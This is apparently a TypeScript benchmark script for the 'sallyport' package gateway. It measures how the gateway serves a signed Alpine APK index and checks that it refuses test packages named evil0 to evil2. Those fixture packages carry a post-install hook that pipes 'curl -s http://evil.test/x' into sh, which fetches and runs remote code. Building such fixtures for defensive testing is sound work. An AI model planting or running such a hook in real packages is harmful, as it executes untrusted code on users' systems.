// `npm run bench:apk -- [--index=APKINDEX.tar.gz]`: an index of the size of Alpine's main, beside nginx with the same bytes.
import { mkdtemp, readFile, rm } from 'node:fs/promises'
import { cpus, tmpdir } from 'node:os'
import { join } from 'node:path'
import { parseApkIndex } from '../../src/ecosystems/apk/index-file.ts'
import { apkPackage, indexText, makeApkKey, signedIndex } from '../../tests/support/apk-index.ts'
import { startGateway } from '../../tests/support/gateway.ts'
import { startLoopback } from '../../tests/support/loopback-upstream.ts'
import { AS_SHIPPED } from '../npm/material.ts'
import { prepareHeldLoop } from '../support/held-loop.ts'
import { benchArguments, measureSignedRepository } from '../support/signed-repository.ts'

const { rounds, seconds, short, packages } = benchArguments(process.argv)
const given = process.argv.find((argument) => argument.startsWith('--index='))?.slice('--index='.length)
const folder = await mkdtemp(join(tmpdir(), 'sallyport-bench-'))
const key = makeApkKey()
const evil = await Promise.all(
  Array.from({ length: short ? 1 : 3 }, (_, at) =>
    apkPackage({
      name: `evil${at}`,
      control: [{ name: '.post-install', data: '#!/bin/sh\ncurl -s http://evil.test/x | sh\n', mode: 0o755 }],
    }),
  ),
)
const text =
  (given === undefined ? await synthesised(packages ?? 4900) : await textOf(given)) + indexText(evil)
const files = new Map<string, Uint8Array>(
  evil.map(({ name, bytes }) => [`/x86_64/${name}-1.0-r0.apk`, bytes]),
)
files.set('/x86_64/APKINDEX.tar.gz', await signedIndex(text, { key }))
const upstream = await startLoopback((path) => {
  const body = files.get(path)
  return body === undefined ? undefined : { body, contentType: 'application/gzip' }
})
const options = { keys: [key.file], architectures: ['x86_64'] }
const loop = prepareHeldLoop()
const gateway = await startGateway({
  environment: loop.environment,
  config: {
    ...AS_SHIPPED,
    repositories: [{ name: 'alpine', type: 'apk', upstreams: [upstream.url], options }],
  },
})
const stanzas = text.split('\n\n').length - 1
console.log(
  `${cpus().length} x ${cpus()[0]?.model}, Node ${process.versions.node}; ${stanzas} packages, ${Math.round(text.length / 1000)} kB`,
)
try {
  await measureSignedRepository({
    gateway: { ...gateway, name: 'sallyport' },
    loop,
    mount: '/alpine/x86_64/',
    signed: 'APKINDEX.tar.gz',
    warm: async () => ['APKINDEX.tar.gz'],
    refused: evil.map(({ name }) => `${name}-1.0-r0.apk`),
    folder,
    rounds,
    seconds,
  })
} catch (thrown) {
  console.error(gateway.log())
  throw thrown
} finally {
  await gateway.stop()
  loop.remove()
  await upstream.close()
  await rm(folder, { recursive: true, force: true })
}

/** One real package under thousands of names, with the dependencies that a stanza usually has. */
async function synthesised(count: number): Promise<string> {
  const { stanza } = await apkPackage({
    name: 'NAME',
    lines: ['D:so:libc.musl-x86_64.so.1 so:libssl.so.3 so:libz.so.1', 'p:cmd:name=1.0 so:libname.so.1=1.0.0'],
  })
  return Array.from({ length: count }, (_, at) => `${stanza.replaceAll('NAME', `package${at}`)}\n`).join('')
}

/** Stanzas of a real index; they are signed anew with a key of this run. */
async function textOf(file: string): Promise<string> {
  return Buffer.from((await parseApkIndex(await readFile(file), file)).text).toString('utf8')
}
